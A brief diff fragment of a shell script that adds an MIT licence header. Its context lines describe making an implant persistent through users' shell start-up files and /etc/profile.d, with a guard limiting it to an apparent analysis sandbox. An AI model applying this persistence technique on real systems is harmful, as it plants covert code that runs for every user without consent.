@@ -1,4 +1,5 @@
 #!/bin/sh
+# SPDX-License-Identifier: MIT
 # Persistence in the shells' start-up files: every new shell of the user
 # (and of every user, where /etc/profile.d is writable) starts the implant.
 [ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
